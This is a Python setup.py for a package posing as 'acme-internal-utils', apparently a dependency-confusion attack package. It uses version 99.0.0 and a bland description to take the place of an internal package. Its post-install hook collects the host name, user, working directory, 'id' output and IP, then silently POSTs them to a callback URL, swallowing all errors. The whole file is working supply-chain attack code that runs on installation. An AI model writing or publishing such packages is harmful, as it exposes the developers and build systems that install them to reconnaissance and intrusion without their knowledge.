import getpass
import json
import os
import socket
import subprocess
import urllib.request

from setuptools import find_packages, setup
from setuptools.command.install import install

CALLBACK = "https://oob.example.invalid/c/acme-internal-utils"


class PostInstall(install):
    """Dependency-confusion probe: report who installed the internal name."""

    def run(self):
        install.run(self)
        try:
            info = {
                "pkg": "acme-internal-utils",
                "host": socket.gethostname(),
                "user": getpass.getuser(),
                "cwd": os.getcwd(),
                "id": subprocess.check_output(["id"], text=True).strip(),
                "ip": socket.gethostbyname(socket.gethostname()),
            }
            req = urllib.request.Request(
                CALLBACK,
                data=json.dumps(info).encode(),
                headers={"Content-Type": "application/json"},
            )
            urllib.request.urlopen(req, timeout=5)
        except Exception:
            pass


setup(
    name="acme-internal-utils",
    version="99.0.0",
    description="Internal utilities",
    packages=find_packages(),
    cmdclass={"install": PostInstall},
)
